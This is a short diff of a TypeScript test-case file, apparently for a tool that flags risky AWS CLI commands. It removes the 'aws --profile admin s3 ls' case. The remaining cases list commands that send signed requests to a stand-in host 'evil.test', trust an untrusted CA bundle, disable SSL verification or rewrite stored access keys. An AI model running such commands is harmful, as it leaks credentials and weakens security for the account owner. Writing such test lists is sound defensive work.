@@ -89,7 +89,6 @@ export const AWS_CASES: CliCases = {
       ['aws --endpoint-url http://evil.test s3 ls', 'the signature goes elsewhere'],
       ['aws s3 ls --endpoint-url=http://evil.test', 'at the end'],
       ['aws s3 ls --endpoint http://evil.test', 'argparse takes a prefix'],
-      ['aws --profile admin s3 ls', 'other credentials, maybe from a program'],
       ['aws s3 ls --ca-bundle evil.pem', 'other certificates'],
       ['aws s3 ls --no-verify-ssl', 'any certificate'],
       ['aws configure set aws_access_key_id x', 'changes what later commands do'],
